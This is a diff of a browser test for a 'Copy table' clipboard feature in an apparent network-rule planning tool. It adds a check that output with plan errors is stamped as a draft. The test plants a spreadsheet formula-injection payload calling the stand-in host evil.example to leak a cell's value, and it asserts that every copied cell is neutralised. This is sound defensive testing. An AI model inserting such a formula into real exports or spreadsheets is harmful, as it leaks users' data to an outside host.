@@ -158,14 +158,16 @@ test('"Copy table" puts tab-separated rules on the clipboard', async ({ page, co
   expect(text).toContain('4498');
 });
 
-test('"Copy table" puts text and an HTML table on the clipboard, formula-safe', async ({
+test('"Copy table" puts text and an HTML table on the clipboard, formula-safe, stamped as a draft', async ({
   page,
   context,
 }) => {
   await context.grantPermissions(['clipboard-read', 'clipboard-write']);
   const plan = typicalPlan();
   const hostile = '=HYPERLINK("http://evil.example/?leak="&C4,"x")';
-  plan.devices = plan.devices.map((d, i) => (i === 1 ? { ...d, name: hostile } : d));
+  plan.devices = plan.devices.map((d, i) =>
+    i === 1 ? { ...d, name: hostile, addresses: ['not an address!'] } : d,
+  );
   await openReview(page, plan);
   await page.getByRole('button', { name: 'Copy table', exact: true }).click();
   await expect(page.getByText(/Copied \d+ rule\(s\) as a table: paste it/)).toBeVisible();
@@ -186,15 +188,16 @@ test('"Copy table" puts text and an HTML table on the clipboard, formula-safe', 
   if (!copied) throw new Error('nothing on the clipboard');
   expect(copied.types).toEqual(['text/html', 'text/plain']);
   const lines = copied.text.replace(/\n$/, '').split('\n');
-  expect(lines[0]).toContain('Contoso NYC file services');
-  expect(lines[1]).toMatch(/^Environment\tSource\tSource host\t/);
+  expect(lines[0]).toMatch(/^DRAFT — \d+ plan errors?: fix (it|them) before filing$/);
+  expect(lines[1]).toContain('Contoso NYC file services');
+  expect(lines[2]).toMatch(/^Environment\tSource\tSource host\t/);
   const textCells = lines.map((line) => line.split('\t'));
   // The HTML holds the same table, cell for cell, and nothing else.
   expect(copied.rows.map((row) => row.map((c) => c.text))).toEqual(textCells);
-  expect(copied.rows[1]?.every((c) => c.tag === 'th')).toBe(true);
+  expect(copied.rows[2]?.every((c) => c.tag === 'th')).toBe(true);
   expect(copied.elements).toEqual(['table', 'tbody', 'td', 'th', 'thead', 'tr']);
   const cells = textCells.flat();
-  expect(cells).toContain(`'${hostile} (qumulo01.corp.contoso.com)`);
+  expect(cells).toContain(`'${hostile} (not an address!)`);
   for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/);
 });
 
